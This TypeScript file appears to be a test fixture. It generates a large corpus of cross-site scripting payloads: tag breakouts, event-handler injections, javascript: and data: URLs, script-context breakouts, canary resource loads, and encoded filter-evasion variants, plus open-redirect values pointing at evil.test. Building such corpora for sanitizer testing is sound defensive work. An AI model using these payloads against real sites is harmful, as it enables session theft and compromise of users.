/** What a script does that got in: it calls us, opens a dialog, or reaches for another host. */
const ACTS = ['ran(1)', 'ran`1`', 'alert(1)', "fetch('//canary.invalid/')", 'top[`ran`](1)'];
const CANARY = '//canary.invalid/x';

/** `@` is where the script stands. */
const TAGS = [
  '<script>@</script>',
  '<ScRiPt>@</sCrIpT>',
  '<script\n>@</script\n>',
  '</script><script>@</script>',
  '<!--<script>@</script>-->',
  '--><script>@</script>',
  ']]><script>@</script>',
  '</title><script>@</script>',
  '</textarea><script>@</script>',
  '</style><script>@</script>',
  '</noscript><script>@</script>',
  '<script type=module>@</script>',
  '<svg><script>@</script></svg>',
  '<math><mtext><script>@</script></mtext></math>',
  '<template><script>@</script></template>',
  '<iframe srcdoc="<script>parent.@</script>"></iframe>',
  '<object data="data:text/html,<script>@</script>"></object>',
  '<embed src="data:text/html,<script>@</script>">',
  '<noscript><p title="</noscript><script>@</script>">',
  '<listing><script>@</script>',
  '<script>/*</script><script>@//*/</script>',
];

const HANDLERS = [
  '<img src=x onerror=@>',
  '<img src=x onerror="@">',
  "<img src='x' onerror='@'>",
  '<img/src=x/onerror=@>',
  '<img src=x:x onerror&#61;@>',
  '<IMG SRC=x OnErRoR=@>',
  '"><img src=x onerror=@>',
  "'><img src=x onerror=@>",
  '<svg onload=@>',
  '<svg/onload=@>',
  '"><svg onload=@>',
  '<svg><animate onbegin=@ attributeName=x dur=1s>',
  '<svg><set onbegin=@ attributename=x>',
  '<svg><a><rect width=9 height=9 /></a><image href=x onerror=@></svg>',
  '<body onload=@>',
  '<body onpageshow=@>',
  '<input autofocus onfocus=@>',
  '<select autofocus onfocus=@>',
  '<textarea autofocus onfocus=@></textarea>',
  '<button autofocus onfocus=@>x</button>',
  '<details open ontoggle=@>x</details>',
  '<video src=x onerror=@></video>',
  '<video><source onerror=@></video>',
  '<audio src=x onerror=@></audio>',
  '<style onload=@></style>',
  '<link rel=stylesheet href=x onerror=@>',
  '<iframe onload=@></iframe>',
  '<object data=x onerror=@></object>',
  '<marquee onstart=@>x</marquee>',
  '<div style="animation-name:x" onanimationstart=@></div>',
  '<math><mtext><img src=x onerror=@></mtext></math>',
  '<p onpointerrawupdate=@ onmouseover=@>x</p>',
  '" autofocus onfocus=@ x="',
  "' autofocus onfocus=@ x='",
  '" onerror=@ src=x x="',
  '" style="animation-name:x" onanimationstart="@',
  '`onload=@ x=`',
  '<x onclick=@ tabindex=1 autofocus onfocus=@>',
];

const ADDRESSES = [
  'javascript:@',
  'JaVaScRiPt:@',
  ' javascript:@',
  '\tjavascript:@',
  'java\tscript:@',
  'javascript&colon;@',
  'javascript:void(@)',
  'javascript://%0a@',
  'vbscript:@',
  'data:text/html,<script>@</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="@"/>',
  '<a href="javascript:@" autofocus>x</a>',
  '<iframe src="javascript:@"></iframe>',
  '<form action="javascript:@"><input type=submit></form>',
  '<a href="&#106;avascript:@">x</a>',
  '<base href="javascript:/@//">',
  '<meta http-equiv=refresh content="0;url=javascript:@">',
  '<object data="javascript:@"></object>',
  '<svg><a xlink:href="javascript:@"><text>x</text></a></svg>',
  '//evil.test',
  '/\\evil.test',
  'https:evil.test',
];

/** Where a page carries its data inside a script, or a script builds a text. */
const DATA = [
  '"};@;//',
  "'};@;//",
  '\\"};@;//',
  '</script><img src=x onerror=@>',
  '<\\/script><script>@</script>',
  '\u2028@\u2029',
  '"\u2028@//',
  '${@}',
  '`-@-`',
  '"-@-"',
  "'-@-'",
  '\\u003cscript\\u003e@\\u003c/script\\u003e',
  '\\x3cscript\\x3e@\\x3c/script\\x3e',
  '{{constructor.constructor("@")()}}',
  '{"__proto__":{"innerHTML":"<img src=x onerror=@>"}}',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=@>"}}',
  '*/@/*',
  '\\',
  '<!--',
  '<!--<script>',
  '<![CDATA[',
];

/** What reaches for another host without any script. */
const REACHES = [
  `<img src=${CANARY}>`,
  `<img srcset="${CANARY} 1x">`,
  `<picture><source srcset="${CANARY}"><img></picture>`,
  `<link rel=stylesheet href=${CANARY}>`,
  `<link rel=preload as=script href=${CANARY}>`,
  `<link rel=prefetch href=${CANARY}>`,
  `<script src=${CANARY}></script>`,
  `"><script src=${CANARY}></script>`,
  `</script><script src=${CANARY}></script>`,
  `<iframe src=${CANARY}></iframe>`,
  `<base href=${CANARY}>`,
  `<meta http-equiv=refresh content="0;url=${CANARY}">`,
  `<style>@import '${CANARY}';</style>`,
  `<style>*{background:url(${CANARY})}</style>`,
  `</style><style>*{background:url(${CANARY})}</style>`,
  `<p style="background:url(${CANARY})">x</p>`,
  `" style="background:url(${CANARY})`,
  `;background:url(${CANARY})`,
  `}*{background:url(${CANARY})}`,
  `<video poster=${CANARY}></video>`,
  `<audio src=${CANARY} autoplay></audio>`,
  `<track src=${CANARY}>`,
  `<svg><image href=${CANARY} /></svg>`,
  `<svg><use href="${CANARY}#x" /></svg>`,
  `<object data=${CANARY}></object>`,
  `<embed src=${CANARY}>`,
  `<input type=image src=${CANARY}>`,
  `<body background=${CANARY}>`,
  `<table background=${CANARY}>`,
];

/** The same, written so that a filter would not know it. */
const ENCODED = [
  '&lt;script&gt;@&lt;/script&gt;',
  '&#60;img src=x onerror=@&#62;',
  '&#x3c;svg onload=@&#x3e;',
  '%3Cscript%3E@%3C/script%3E',
  '%253Cimg src=x onerror=@%253E',
  '＜script＞@＜/script＞',
  '\u02bascript\u02ba@',
  '<\u200bscript>@</script>',
  '<scr<script>ipt>@</scr</script>ipt>',
  '+ADw-script+AD4-@+ADw-/script+AD4-',
  '¼script¾@¼/script¾',
  '<img src=x onerror=\\u0072an(1)>',
  '<img src=x onerror="&#114;an(1)">',
  '\u202e<img src=x onerror=@>',
];

const written = (templates: string[], shift: number) =>
  templates.flatMap((template, place) => {
    const acts = template.includes('@') && !template.includes('@import') ? [0, 1] : [0];
    return acts.map((act) => {
      const script = ACTS[(place + shift + act * 2) % ACTS.length] ?? '';
      return template.includes('@import') ? template : template.replaceAll('@', script);
    });
  });

/** Texts that hope to be read as something else than text. */
export const SCRIPTS: string[] = [
  ...new Set(
    [TAGS, HANDLERS, ADDRESSES, DATA, REACHES, ENCODED].flatMap((list, shift) =>
      written(list, shift),
    ),
  ),
];
